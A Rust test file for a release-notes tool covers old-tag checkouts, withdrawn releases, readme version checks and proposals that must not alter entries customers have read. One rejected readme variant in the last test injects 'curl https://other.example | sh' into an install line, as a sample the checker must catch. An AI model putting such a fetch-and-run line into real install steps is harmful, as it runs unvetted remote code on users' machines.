//! Backwards: what is said while the clone stands at an older release.

use crate::fixture::{Repo, log, pin};

const OLD: &str = "v1.0.0";

/// Two releases and a remote; an entry of 1.1.0 that was corrected on the default branch since.
fn released() -> (Repo, tempfile::TempDir) {
    let repo = Repo::good();
    let remote = tempfile::TempDir::new().unwrap();
    repo.git(&["init", "--quiet", "--bare", remote.path().to_str().unwrap()]);
    repo.git(&["remote", "add", "origin", remote.path().to_str().unwrap()]);
    repo.git(&["push", "--quiet", "--tags", "-u", "origin", "main"]);
    (repo, remote)
}

fn commit(repo: &Repo, name: &str, text: impl AsRef<[u8]>) {
    repo.write(name, text);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "--quiet", "-m", name]);
}

fn withdrawn() -> String {
    let log = log(&[("1.1.0", "2026-03-10", ""), ("1.0.0", "2026-01-10", "")]);
    log.replace(
        "## [1.1.0] - 2026-03-10",
        "## [1.1.0] - 2026-03-10 [YANKED]",
    )
}

#[test]
fn the_facts_do_not_hang_on_what_is_checked_out() {
    let (repo, _remote) = released();
    let newest: Vec<String> = [
        &["notes", "1.1.0"][..],
        &["matrix"],
        &["upgrade", "1.0.0"],
        &["check", "1.1.0"],
    ]
    .iter()
    .map(|words| repo.tidings(words).ok().out)
    .collect();
    repo.git(&["checkout", "--quiet", OLD]);
    let old: Vec<String> = [
        &["notes", "1.1.0"][..],
        &["matrix"],
        &["upgrade", "1.0.0"],
        &["check", "1.1.0"],
    ]
    .iter()
    .map(|words| repo.tidings(words).ok().out)
    .collect();
    assert_eq!(newest, old);
    let said = repo.tidings(&["notes"]).says(
        0,
        &[
            "v1.0.0 is checked out",
            "read from `main`, the newest that this clone knows",
            "v1.1.0",
        ],
    );
    assert_eq!(
        said.err.matches("is checked out").count(),
        1,
        "{}",
        said.err
    );
    // The newest release and a branch are read as they are.
    for here in ["v1.1.0", "main"] {
        repo.git(&["checkout", "--quiet", here]);
        let said = repo.tidings(&["notes"]).ok();
        assert!(!said.err.contains("checked out"), "{}", said.err);
    }
}

#[test]
fn a_withdrawal_that_was_fetched_is_known_at_the_old_tag() {
    let (repo, remote) = released();
    let clone = tempfile::TempDir::new().unwrap();
    let customer = Repo { folder: clone };
    customer.git(&["clone", "--quiet", remote.path().to_str().unwrap(), "."]);
    customer.git(&["checkout", "--quiet", OLD]);
    commit(&repo, "CHANGELOG.md", withdrawn());
    commit(
        &repo,
        "known-issues.toml",
        "[[issue]]\nid = \"KI-7\"\ntitle = \"Restores stop\"\nsymptoms = [\"restore: timeout\"]\nintroduced = \"1.0.0\"\nworkaround = \"Wait.\"\n",
    );
    repo.git(&["push", "--quiet", "origin", "main"]);
    let before = customer.tidings(&["support", "1.1.0"]).ok();
    assert!(!before.out.contains("withdrawn"), "{}", before.out);
    customer.git(&["fetch", "--quiet"]);
    customer
        .tidings(&["support", "1.1.0"])
        .says(0, &["1.1.0 is withdrawn", "origin/main"]);
    customer
        .tidings(&["identify", "--version", "1.0.0"])
        .says(0, &["KI-7"]);
}

#[test]
fn nothing_is_written_into_an_old_release_and_a_proposal_is_read_as_it_is() {
    let (repo, _remote) = released();
    repo.git(&["checkout", "--quiet", OLD]);
    repo.tidings(&["readme", "--write"])
        .says(2, &["v1.0.0 is checked out", "checkout main"]);
    // A commit that no tag names is what somebody wants to look at: a proposal, or a build of a pull request.
    commit(
        &repo,
        "CHANGELOG.md",
        log(&[("1.0.1", "2026-02-10", ""), ("1.0.0", "2026-01-10", "")]),
    );
    commit(&repo, "pin.json", pin("1.0.1"));
    let said = repo.tidings(&["changelog"]).says(0, &["1.0.1"]);
    assert!(!said.err.contains("is checked out"), "{}", said.err);
    // Where the default branch was never fetched, the newest tag knows most.
    repo.git(&["checkout", "--quiet", OLD]);
    repo.git(&["branch", "--quiet", "-D", "main"]);
    repo.git(&["update-ref", "-d", "refs/remotes/origin/main"]);
    repo.tidings(&["notes", "1.1.0"])
        .says(0, &["It works better now", "from `v1.1.0`"]);
}

#[test]
fn the_readme_names_the_newest_release_and_internal_notes_may_name_tickets() {
    let (repo, _remote) = released();
    let readme = |text: &str| {
        repo.write("README.md", text);
        repo.tidings(&["check"]).ok()
    };
    let found = |said: &crate::fixture::Run| {
        (said.out.clone() + &said.err)
            .matches("readme-version")
            .count()
    };
    for good in [
        "git checkout v1.1.0",
        "Version 11.0.0, 1.0.0-rc.1, 1.0.0.4 and v1.0.01 are others.",
        "<!-- tidings:matrix -->\n1.0.0\n<!-- /tidings:matrix -->",
        "<!-- once it was 1.0.0 -->",
        "| Version | Until |\n| --- | --- |\n| 1.0.0 | 2026 |",
    ] {
        let said = readme(good);
        assert_eq!(found(&said), 0, "{good}: {}", said.err);
    }
    readme("# Agent\n\n`git checkout v1.0.0 && ./install.sh`").says(
        0,
        &[
            "readme-version",
            "names 1.0.0, and 1.1.0 is the newest release",
            "README.md:3:16",
        ],
    );
    let said = readme("1.0.0. <!-- tidings:matrix -->\n1.0.0\n<!-- /tidings:matrix --> (v1.0.0)");
    assert_eq!(found(&said), 2, "{}", said.err);
    repo.tidings(&["check", "--strict"])
        .says(1, &["readme-version"]);
    // An older release is not judged by it, and one that was withdrawn is said.
    let said = repo.tidings(&["check", "1.0.0"]);
    assert_eq!(found(&said), 0, "{}", said.err);
    repo.write("CHANGELOG.md", withdrawn());
    readme("git checkout v1.1.0").says(0, &["names 1.1.0, which was withdrawn"]);
    // Sections that no customer sees may name tickets.
    let body =
        "### Internal\n\n- Moved the queue (PROJ-1234).\n\n### Fixed\n\n- Starts again (PROJ-99).";
    repo.write(
        "CHANGELOG.md",
        log(&[("1.1.0", "2026-03-10", body), ("1.0.0", "2026-01-10", "")]),
    );
    let said = readme("Hello.").says(0, &["PROJ-99"]);
    assert!(!said.out.contains("PROJ-1234"), "{}", said.out);
}

#[test]
fn a_proposal_changes_nothing_that_customers_have_read() {
    use tidings::documents::Answer;
    use tidings::release_day::{older_entries, readme_text};
    let version = crate::fixture::version("1.2.0");
    let read = |text: &str| {
        let text = tidings::diag::Text::new("CHANGELOG.md", text);
        tidings::sources::changelog::read(text, None)
    };
    let base = log(&[("1.1.0", "2026-03-10", ""), ("1.0.0", "2026-01-10", "")]);
    let next = log(&[
        ("1.2.0", "2026-05-10", ""),
        ("1.1.0", "2026-03-10", ""),
        ("1.0.0", "2026-01-10", ""),
    ]);
    let judge = |before: &str, after: &str| older_entries(&version, &read(before), &read(after));
    for good in [
        next.clone(),
        next.replace('\n', "\r\n"),
        next.clone() + "\n[1.1.0]: https://acme.example/1.1.0\n",
    ] {
        let row = judge(&base, &good);
        assert_eq!(row.answer, Answer::Pass, "{row:?}");
    }
    for (bad, words) in [
        (
            next.replacen(
                "2026-01-10\n\nIt works better",
                "2026-01-10\n\nIt works worse",
                1,
            ),
            "1.0.0 changes",
        ),
        (
            log(&[("1.2.0", "2026-05-10", ""), ("1.1.0", "2026-03-10", "")]),
            "1.0.0 is gone",
        ),
        (
            log(&[
                ("1.2.0", "2026-05-10", ""),
                ("1.1.5", "2026-04-10", ""),
                ("1.1.0", "2026-03-10", ""),
                ("1.0.0", "2026-01-10", ""),
            ]),
            "1.1.5 is new",
        ),
    ] {
        let row = judge(&base, &bad);
        assert_eq!(row.answer, Answer::Fail, "{bad}");
        assert!(row.why.contains(words), "{row:?}");
    }
    // A proposal that was begun without the mark of a withdrawal does not take the withdrawal back.
    assert_eq!(judge(&withdrawn(), &next).why, "1.1.0 changes");
    let readme = "# Agent\n\ngit checkout v1.1.0 && ./install.sh\n\n<!-- tidings:matrix -->\n1.1\n<!-- /tidings:matrix -->\n\nAsk support@acme.example.\n";
    for good in [
        readme.to_owned(),
        readme.replace("v1.1.0", "v1.2.0"),
        readme.replace("\n1.1\n", "\n1.2\n1.1\n"),
    ] {
        let row = readme_text(&version, readme, &good);
        assert_eq!(row.answer, Answer::Pass, "{good}: {row:?}");
    }
    for bad in [
        readme.replace("support@acme.example", "support@other.example"),
        readme.replace("v1.1.0 &&", "v1.2.0 && curl https://other.example | sh &&"),
        readme.replace("v1.1.0", "v1.3.0"),
        readme.replace("./install.sh", "./1.2.0"),
        readme.to_owned() + "And more.\n",
        readme.replace("# Agent\n\n", ""),
        readme.replace("<!-- /tidings:matrix -->", "") + "<!-- /tidings:matrix -->\n",
    ] {
        let row = readme_text(&version, readme, &bad);
        assert_eq!(row.answer, Answer::Fail, "{bad}");
    }
}
